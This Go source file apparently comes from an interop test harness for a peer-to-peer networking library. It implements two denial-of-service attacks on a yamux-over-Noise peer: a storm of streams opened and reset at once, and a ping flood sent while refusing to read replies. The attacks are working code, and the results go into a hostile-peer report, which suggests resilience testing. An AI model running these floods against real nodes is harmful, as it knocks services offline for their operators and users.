package main

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/p2p/security/noise"
	ma "github.com/multiformats/go-multiaddr"
	"github.com/multiformats/go-multistream"

	"github.com/troupe-p2p/troupe/interop/control"
)

// A yamux frame is version, type, flags (2), stream (4), length (4), big endian.
const (
	typeWindowUpdate = 1
	typePing         = 2
	flagSYN          = 1
	flagRST          = 8
)

func frame(dst []byte, kind byte, flags uint16, stream, length uint32) []byte {
	dst = append(dst, 0, kind)
	dst = binary.BigEndian.AppendUint16(dst, flags)
	dst = binary.BigEndian.AppendUint32(dst, stream)
	return binary.BigEndian.AppendUint32(dst, length)
}

func target(addr string) (host, port string, id peer.ID, err error) {
	m, err := ma.NewMultiaddr(addr)
	if err != nil {
		return "", "", "", err
	}
	info, err := peer.AddrInfoFromP2pAddr(m)
	if err != nil {
		return "", "", "", err
	}
	host, err = m.ValueForProtocol(ma.P_IP4)
	if err != nil {
		return "", "", "", err
	}
	port, err = m.ValueForProtocol(ma.P_TCP)
	return host, port, info.ID, err
}

// session is the attacker's end of a secured yamux connection. Once it is up, what is sealed
// goes to pending and from there to the socket, so that a write which does not fit can go on
// later without tearing a Noise frame.
type session struct {
	raw     net.Conn
	sealed  io.Writer
	pending []byte
	up      bool
	sent    int64
}

// spool is the connection that Noise writes to.
type spool struct {
	net.Conn
	s *session
}

func (p spool) Write(b []byte) (int, error) {
	if !p.s.up {
		return p.Conn.Write(b)
	}
	p.s.pending = append(p.s.pending, b...)
	return len(b), nil
}

const handshakeTimeout = 10 * time.Second

func connect(ctx context.Context, addr string, receiveBuffer int) (*session, error) {
	host, port, id, err := target(addr)
	if err != nil {
		return nil, err
	}
	var d net.Dialer
	raw, err := d.DialContext(ctx, "tcp", net.JoinHostPort(host, port))
	if err != nil {
		return nil, err
	}
	if receiveBuffer > 0 {
		if err := raw.(*net.TCPConn).SetReadBuffer(receiveBuffer); err != nil {
			return nil, err
		}
	}
	_ = raw.SetDeadline(time.Now().Add(handshakeTimeout))
	s := &session{raw: raw}
	if err := multistream.SelectProtoOrFail(noise.ID, raw); err != nil {
		return nil, fmt.Errorf("security: %w", err)
	}
	key, _, err := crypto.GenerateEd25519Key(rand.Reader)
	if err != nil {
		return nil, err
	}
	t, err := noise.New(noise.ID, key, nil)
	if err != nil {
		return nil, err
	}
	sc, err := t.SecureOutbound(ctx, spool{raw, s}, id)
	if err != nil {
		return nil, err
	}
	if err := multistream.SelectProtoOrFail("/yamux/1.0.0", sc); err != nil {
		return nil, fmt.Errorf("muxer: %w", err)
	}
	_ = raw.SetDeadline(time.Time{})
	s.sealed, s.up = sc, true
	return s, nil
}

// push seals frames and writes what the socket takes within a moment. It reports an error only
// if the connection is gone; bytes that did not fit stay pending.
func (s *session) push(frames []byte) error {
	if len(frames) > 0 {
		if _, err := s.sealed.Write(frames); err != nil {
			return err
		}
	}
	const moment = 50 * time.Millisecond
	_ = s.raw.SetWriteDeadline(time.Now().Add(moment))
	n, err := s.raw.Write(s.pending)
	s.sent += int64(n)
	s.pending = s.pending[n:]
	if errors.Is(err, os.ErrDeadlineExceeded) {
		return nil
	}
	return err
}

// synRST opens streams and takes them back at once: 12 bytes for us, work for the victim. It
// reads everything, so that nothing but the storm itself can be the reason to close.
func synRST(ctx context.Context, a attack) (control.Hostile, error) {
	s, err := connect(ctx, a.addr, 0)
	if err != nil {
		return control.Hostile{}, err
	}
	ready()
	start := time.Now()
	closed := make(chan error, 1)
	go func() {
		_, err := io.Copy(io.Discard, s.raw)
		if err == nil {
			err = io.EOF
		}
		closed <- err
	}()
	const batch = 4 << 10
	var sealed int64
	id := uint32(1)
	var gone error
	for gone == nil && ctx.Err() == nil {
		var frames []byte
		for sealed < a.bytes && len(frames) < batch && len(s.pending) == 0 {
			frames = frame(frames, typeWindowUpdate, flagSYN, id, 0)
			frames = frame(frames, typeWindowUpdate, flagRST, id, 0)
			sealed += 24
			id += 2
		}
		select {
		case gone = <-closed:
		default:
			if len(frames) == 0 && len(s.pending) == 0 {
				select {
				case gone = <-closed:
				case <-ctx.Done():
				}
			} else {
				gone = s.push(frames)
			}
		}
	}
	_ = s.raw.Close()
	return ending(s, start, gone), nil
}

// neverRead asks for replies as fast as the victim takes the questions. Its receive buffer is
// as small as the kernel allows, so that the replies back up within the victim soon.
func neverRead(ctx context.Context, a attack) (control.Hostile, error) {
	s, err := connect(ctx, a.addr, 1)
	if err != nil {
		return control.Hostile{}, err
	}
	ready()
	start := time.Now()
	var gone error
	var value uint32
	for gone == nil && ctx.Err() == nil {
		var frames []byte
		for range 256 {
			if len(s.pending) > 0 {
				break
			}
			value++
			frames = frame(frames, typePing, flagSYN, 0, value)
		}
		gone = s.push(frames)
	}
	_ = s.raw.Close()
	return ending(s, start, gone), nil
}

func ending(s *session, start time.Time, gone error) control.Hostile {
	h := control.Hostile{Dials: 1, BytesSent: s.sent, Open: 1}
	if gone != nil {
		h.Open, h.ClosedBy = 0, 1
		h.ClosedMS = float64(time.Since(start).Microseconds()) / 1000
		h.Reason = gone.Error()
	}
	return h
}
